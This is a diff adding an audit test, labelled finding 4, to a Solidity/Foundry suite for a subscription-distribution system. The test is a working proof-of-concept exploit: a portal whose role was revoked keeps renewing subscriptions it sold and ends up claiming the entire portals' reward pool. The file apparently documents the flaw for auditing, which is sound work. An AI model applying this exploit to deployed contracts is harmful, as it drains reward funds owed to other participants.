@@ -255,4 +255,36 @@ contract AuditS8Test is DistributionBase {
         shared.subscribe(client, integrator, 100 ether, 1);
         vm.stopPrank();
     }
+
+    // ------------------------------------------------------------------ finding 4: a revoked portal keeps earning
+
+    /// @dev Revoking a dishonest portal's PORTAL role stops its sales, not its earnings: anyone (the portal itself)
+    /// may renew the subscriptions it sold, each renewal credits it in the portals' pool in full in the open epoch
+    /// and counts in the usage measures within its allowance. One 100 QRY subscription sold before the revocation,
+    /// renewed for 35 epochs after it: 3,600 QRY of portal value in epoch 0 (root 60).
+    function test_Exploit_revokedPortal_keepsEarningThroughRenewals() public {
+        bytes32 key = portalPool.MIN_STAKE();
+        vm.prank(address(params));
+        portalPool.setParameter(key, IDENTITY_STAKE);
+        _stake(portal, IDENTITY_STAKE);
+        _stake(integrator, IDENTITY_STAKE);
+        uint256 id = _subscribe(100 ether, 1);
+
+        vm.prank(registrar);
+        manager.revokeRole(Roles.DISTRIBUTION_PORTAL, portal);
+        _mint(portal, 100 ether);
+        vm.startPrank(portal);
+        qry.approve(address(subscriptions), 100 ether);
+        vm.expectRevert(abi.encodeWithSelector(IAccessManaged.AccessManagedUnauthorized.selector, portal));
+        subscriptions.subscribe(client, integrator, 100 ether, 1);
+        vm.stopPrank();
+
+        _renewAs(portal, id, 35);
+        assertEq(portalPool.entryOf(0, portal).value, 3_600 ether, "credited 100 + 3,500 after the revocation");
+        assertEq(subscriptions.portalCount(portal, 0), 200 ether, "and its renewal still counts in the measures");
+        _warpToEnd(0);
+        _fundDirectly(portalPool, 0, 50_000 ether);
+        vm.prank(portal);
+        assertEq(portalPool.claim(0), 50_000 ether, "the revoked portal takes the whole portals' pool");
+    }
 }
